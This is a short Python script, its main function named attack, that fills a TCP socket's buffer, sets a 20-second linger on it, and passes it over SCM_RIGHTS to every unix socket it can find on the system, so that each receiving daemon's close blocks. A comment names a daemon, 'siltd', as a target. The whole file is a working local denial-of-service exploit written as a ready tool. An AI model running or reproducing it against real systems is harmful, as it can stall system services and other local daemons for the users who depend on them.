# SPDX-License-Identifier: Apache-2.0
"""Sends a TCP socket whose last close waits for 20 seconds to whoever is at the other end of each unix socket that it can find, and
closes its own copy: the receiver's close is the last. Prints `NAME sent`, `NAME late` or `NAME ERRNO` for each.

    linger.py [FD or NAME...]      without any: all that this process has, and all names that it sees
"""
import array
import errno
import os
import signal
import socket
import struct
import sys
import time

LINGER_S = 20
ALARM_S = 0.1  # a signal ends a close of ours that waits: the receiver was quicker, and ours the last
TRIES = 40
WORD = b'{"t":"pong","id":0}\n'  # a line that siltd passes over
kept = []  # the peers, which do not read


def set_linger(sock, seconds):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, seconds))


def lingering():
    with socket.create_server(("127.0.0.1", 0)) as server:
        ours = socket.create_connection(server.getsockname())
        kept.append(server.accept()[0])
    ours.setblocking(False)
    try:
        while True:
            ours.send(bytes(1 << 16))
    except BlockingIOError:
        return ours


def send(to):
    ours = lingering()
    set_linger(ours, LINGER_S)
    try:
        to.sendmsg([WORD], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [ours.fileno()]))], socket.MSG_DONTWAIT)
        begun = time.monotonic()
        os.close(ours.detach())
        return "sent" if time.monotonic() - begun < ALARM_S / 2 else "late"
    except OSError as e:
        set_linger(ours, 0)
        ours.close()
        return errno.errorcode[e.errno]


def send_often(to):
    for _ in range(TRIES):
        said = send(to)
        if said != "late":
            break
    return said


def send_to_number(fd):
    try:
        with socket.socket(fileno=os.dup(fd)) as to:
            return send_often(to)
    except OSError as e:
        return errno.errorcode[e.errno]


def send_to_name(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as to:
        try:
            to.connect("\0" + name[1:] if name.startswith("@") else name)
        except OSError as e:
            return errno.errorcode[e.errno]
        return send_often(to)


def numbers():
    return [int(name) for name in os.listdir("/proc/self/fd")]


def names():
    with open("/proc/net/unix", encoding="utf-8") as file:
        rows = [line.split(None, 7) for line in file][1:]
    return {row[7].strip() for row in rows if len(row) > 7}


def attack(targets=()):
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, ALARM_S, ALARM_S)
    lines = [f"{target} {send_to_number(int(target)) if target.isdigit() else send_to_name(target)}\n"
             for target in targets or [*map(str, numbers()), *names()]]
    signal.setitimer(signal.ITIMER_REAL, 0)
    sys.stdout.write("".join(lines))
    sys.stdout.flush()


if __name__ == "__main__":
    attack(sys.argv[1:])
    time.sleep(LINGER_S)  # the peers go with us
